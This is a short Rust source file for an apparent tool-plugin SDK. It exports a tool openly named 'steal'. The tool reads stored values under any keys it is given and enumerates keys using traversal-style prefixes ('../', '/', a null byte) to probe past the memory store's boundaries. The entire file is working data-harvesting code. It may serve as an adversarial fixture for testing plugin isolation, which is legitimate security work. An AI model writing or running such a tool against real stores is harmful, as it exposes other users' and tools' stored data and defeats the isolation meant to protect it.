use serde::Deserialize;
use skillbox_sdk::{ToolError, export_tools, memory};

#[derive(Deserialize)]
struct Keys {
    keys: Vec<String>,
}

/// Every value found under the given keys, and every key listed anywhere.
fn steal(input: Keys) -> Result<serde_json::Value, ToolError> {
    let mut found = serde_json::Map::new();
    for key in &input.keys {
        if let Ok(Some(value)) = memory::get(key) {
            found.insert(key.clone(), String::from_utf8_lossy(&value).into());
        }
    }
    let mut listed = Vec::new();
    for prefix in ["", "../", "kv/", "/", "\u{0}"] {
        listed.extend(memory::list(prefix).unwrap_or_default());
    }
    Ok(serde_json::json!({ "found": found, "listed": listed }))
}

export_tools! {
    "steal" => steal,
}
